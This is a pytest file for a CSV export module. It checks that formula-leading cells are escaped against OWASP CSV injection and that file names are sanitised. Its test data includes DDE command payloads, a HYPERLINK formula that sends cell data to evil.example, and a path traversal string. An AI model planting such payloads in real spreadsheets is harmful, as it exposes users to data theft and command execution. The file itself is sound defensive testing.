"""CSV export: formula-leading text cells are escaped (OWASP CSV injection), numbers are not,
and the file reads back to exactly the escaped values."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import polars as pl
import pytest

from reports.export import escape_cell, escape_frame, safe_file_stem, to_csv_bytes

# OWASP "CSV Injection" payloads, one per trigger character, plus the 2025 line-feed case.
OWASP = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
HARMLESS = ["ticket-router", "a=b", "1-2", "x@example.com", " =1+1", "", "café", 'say "hi", ok']


@pytest.mark.parametrize("payload", OWASP)
def test_formula_cells_get_a_quote_prefix(payload: str) -> None:
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_are_untouched(text: str) -> None:
    assert escape_cell(text) == text


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_round_trip_gives_back_the_escaped_text() -> None:
    texts = OWASP + HARMLESS
    df = pl.DataFrame(
        {"text": texts, "n": list(range(-len(texts) // 2, len(texts) - len(texts) // 2))}
    )
    rows = _read(to_csv_bytes(df))
    assert rows[0] == ["text", "n"]
    assert [r[0] for r in rows[1:]] == [escape_cell(t) for t in texts]
    # Stripping the prefix restores the original exactly, including quotes, commas, newlines.
    restored = [r[0][1:] if t in OWASP else r[0] for r, t in zip(rows[1:], texts, strict=True)]
    assert restored == texts
    assert [int(r[1]) for r in rows[1:]] == df["n"].to_list()  # negative numbers stay numbers


def test_numeric_boolean_and_temporal_columns_are_not_escaped() -> None:
    df = pl.DataFrame(
        {
            "i": [-5, 3],
            "f": [-0.25, 1e-9],
            "b": [True, False],
            "d": [date(2026, 1, 2), date(2026, 1, 3)],
            "t": [datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), None],
        }
    )
    rows = _read(to_csv_bytes(df))
    assert rows[1][:3] == ["-5", "-0.25", "true"]
    assert rows[1][3] == "2026-01-02"
    assert rows[1][4].startswith("2026-01-02T03:04:05") and rows[1][4].endswith("+00:00")
    assert rows[2][4] == ""  # nulls are empty fields


def test_text_fields_are_quoted_and_numbers_are_not() -> None:
    text = to_csv_bytes(pl.DataFrame({"s": ["=x"], "n": [-1]})).decode()
    assert text.splitlines()[1] == '"\'=x",-1'


def test_nested_and_categorical_columns_are_escaped_too() -> None:
    df = pl.DataFrame(
        {
            "cat": pl.Series(["=evil", "ok"], dtype=pl.Categorical),
            "lst": [["=a"], ["b"]],
            "st": [{"k": "v"}, {"k": "w"}],
        }
    )
    out = escape_frame(df)
    assert out["cat"].to_list() == ["'=evil", "ok"]
    assert out["lst"].to_list() == ['["=a"]', '["b"]']  # JSON text starts with '[': harmless
    rows = _read(to_csv_bytes(df))
    assert rows[1][0] == "'=evil"


def test_formula_headers_are_escaped() -> None:
    rows = _read(to_csv_bytes(pl.DataFrame({"=h": ["x"]})))
    assert rows[0] == ["'=h"]


def test_file_stems_are_safe() -> None:
    assert safe_file_stem("../../etc/passwd") == "etc_passwd"
    assert safe_file_stem("estate-2026-05-31") == "estate-2026-05-31"
    assert safe_file_stem("") == "table"
